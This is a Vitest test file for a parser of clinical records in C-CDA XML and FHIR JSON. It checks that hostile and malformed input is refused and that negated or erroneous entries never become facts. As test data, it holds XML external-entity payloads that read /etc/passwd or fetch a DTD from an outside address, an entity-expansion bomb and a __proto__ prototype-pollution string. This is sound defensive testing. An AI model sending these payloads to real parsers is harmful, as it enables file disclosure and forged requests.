import { describe, expect, test } from 'vitest';
import { readClinicalFile } from './read-clinical-file.ts';

const refusal = (text: string): string => {
  const read = readClinicalFile(text);
  return Array.isArray(read) ? `${read.length} documents` : read.refused;
};

const ccda = (body: string): string =>
  `<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><title>Summary</title>${body}</ClinicalDocument>`;
const section = (code: string, entry: string, text = ''): string =>
  `<component><structuredBody><component><section><code code="${code}" codeSystem="2.16.840.1.113883.6.1"/>
  <title>S</title><text>${text}</text><entry>${entry}</entry></section></component></structuredBody></component>`;

describe('hostile XML', () => {
  test.each([
    [
      'an external entity',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument>&x;</ClinicalDocument>',
    ],
    ['an external DTD', '<!DOCTYPE ClinicalDocument SYSTEM "http://198.51.100.1/x.dtd"><ClinicalDocument/>'],
    [
      'a parameter entity',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.1/p"> %p;]><a/>',
    ],
    [
      'entities that multiply',
      '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><ClinicalDocument>&b;</ClinicalDocument>',
    ],
  ])('%s is refused', (_name, text) => {
    expect(refusal(text)).toBe('external_entity');
  });

  test('an unknown entity is malformed, not looked up', () => {
    expect(refusal(ccda('<id>&secret;</id>'))).toBe('malformed');
  });

  test('depth, size and number of elements are limited', () => {
    expect(refusal(`<ClinicalDocument>${'<a>'.repeat(200)}`)).toBe('too_deep');
    expect(refusal(ccda(`<id>${'x'.repeat(11 * 1024 * 1024)}</id>`))).toBe('too_large');
    expect(refusal(ccda('<a/>'.repeat(500_001)))).toBe('too_large');
  });

  test.each([
    ['cut off', '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>x'],
    ['tags that cross', '<ClinicalDocument><a></ClinicalDocument></a>'],
    ['only a tag name', '<'],
    ['a null character', ccda('<id>\u0000</id>')],
  ])('%s is malformed', (_name, text) => {
    expect(refusal(text)).toBe('malformed');
  });

  test('other XML and other text are not clinical', () => {
    for (const text of [
      '<html/>',
      '<svg xmlns="http://www.w3.org/2000/svg"/>',
      '',
      '   ',
      'Hello',
      '\uFEFF',
      '%PDF-1.7',
    ])
      expect(refusal(text)).toBe('not_clinical');
  });
});

describe('hostile JSON', () => {
  test('depth is limited before anything is built', () => {
    expect(refusal('['.repeat(100_000))).toBe('too_deep');
    expect(refusal(`{"resourceType":"Bundle","a":${'{"a":'.repeat(200)}1${'}'.repeat(200)}}`)).toBe(
      'too_deep',
    );
  });

  test('brackets in words do not count', () => {
    const name = '['.repeat(500);
    expect(refusal(JSON.stringify({ resourceType: 'Condition', code: { text: name } }))).toBe('1 documents');
  });

  test('names of object members reach no prototype', () => {
    const text =
      '{"resourceType":"Bundle","__proto__":{"polluted":true},"entry":[{"resource":{"resourceType":"constructor","id":"__proto__"}},{"resource":{"resourceType":"toString"}}]}';
    const [document] = readClinicalFile(text) as Exclude<
      ReturnType<typeof readClinicalFile>,
      { refused: string }
    >;
    expect(document?.notUnderstood.map(({ section: kind }) => kind)).toEqual(['constructor', 'toString']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('a reference to itself ends', () => {
    const role = {
      resourceType: 'PractitionerRole',
      id: '1',
      practitioner: { reference: 'PractitionerRole/1' },
      organization: { reference: 'PractitionerRole/1' },
    };
    const visit = {
      resourceType: 'Encounter',
      status: 'finished',
      type: [{ text: 'Visit' }],
      participant: [{ individual: { reference: 'PractitionerRole/1' } }],
    };
    expect(
      refusal(JSON.stringify({ resourceType: 'Bundle', entry: [{ resource: role }, { resource: visit }] })),
    ).toBe('1 documents');
  });

  test.each([
    [
      'wrong types everywhere',
      { resourceType: 'Observation', code: 5, valueQuantity: 'x', component: 'y', category: [null, 3] },
    ],
    ['lists instead of objects', { resourceType: 'Condition', code: [[]], subject: [] }],
    ['null entries', { resourceType: 'Bundle', entry: [null, { resource: null }, 7] }],
    ['a patient without a name', { resourceType: 'Patient', name: [null], birthDate: 7 }],
  ])('%s are not thrown at the caller', (_name, value) => {
    expect(refusal(JSON.stringify(value))).toMatch(/documents/);
  });

  test('broken JSON and lines are malformed; JSON without resources is not clinical', () => {
    expect(refusal('{"resourceType":')).toBe('malformed');
    expect(refusal('{"resourceType":"Patient"}\n{oops')).toBe('malformed');
    expect(refusal('{"a":1}')).toBe('not_clinical');
    expect(refusal('[]')).toBe('not_clinical');
  });
});

describe('older FHIR', () => {
  test.each([
    ['dstu2', { resourceType: 'MedicationOrder' }],
    ['dstu2', { resourceType: 'Immunization', wasNotGiven: false }],
    [
      'dstu2',
      {
        resourceType: 'Bundle',
        entry: [{ resource: { resourceType: 'AllergyIntolerance', substance: { text: 'x' } } }],
      },
    ],
    ['stu3', { resourceType: 'Immunization', notGiven: false, vaccineCode: { text: 'x' } }],
    ['stu3', { resourceType: 'MedicationRequest', context: { reference: 'Encounter/1' } }],
    [
      'stu3',
      { resourceType: 'Condition', clinicalStatus: 'active', subject: { display: 'x' }, code: { text: 'y' } },
    ],
  ])('%s is refused by name', (version, value) => {
    expect(refusal(JSON.stringify(value))).toBe(version);
  });
});

describe('what is not understood', () => {
  test('is a line for each entry of C-CDA', () => {
    const [document] = readClinicalFile(
      ccda(section('11450-4', '<act classCode="ACT" moodCode="EVN"><code code="CONC"/></act>')),
    ) as Exclude<ReturnType<typeof readClinicalFile>, { refused: string }>;
    expect(document?.facts).toEqual([]);
    expect(document?.notUnderstood).toMatchObject([{ why: 'unknown_type' }]);
  });

  test('includes an entry in a section that we do not know', () => {
    const [document] = readClinicalFile(
      ccda(
        section(
          '99999-9',
          '<observation classCode="OBS" moodCode="EVN"><code code="1" displayName="Odd thing"/></observation>',
        ),
      ),
    ) as Exclude<ReturnType<typeof readClinicalFile>, { refused: string }>;
    expect(document?.notUnderstood).toMatchObject([{ section: 'S', text: 'Odd thing' }]);
  });

  test('a negated or withdrawn statement never becomes a fact', () => {
    const bundle = {
      resourceType: 'Bundle',
      entry: [
        {
          resource: {
            resourceType: 'Condition',
            code: { text: 'Cancer' },
            verificationStatus: { coding: [{ code: 'refuted' }] },
          },
        },
        {
          resource: {
            resourceType: 'Observation',
            status: 'entered-in-error',
            code: { text: 'HIV' },
            valueString: 'Positive',
          },
        },
        {
          resource: {
            resourceType: 'MedicationRequest',
            status: 'active',
            doNotPerform: true,
            medicationCodeableConcept: { text: 'Warfarin' },
          },
        },
      ],
    };
    const [document] = readClinicalFile(JSON.stringify(bundle)) as Exclude<
      ReturnType<typeof readClinicalFile>,
      { refused: string }
    >;
    expect(document?.facts).toEqual([]);
    expect(document?.notUnderstood.map(({ why }) => why)).toEqual(['negated', 'entered_in_error', 'negated']);
  });
});
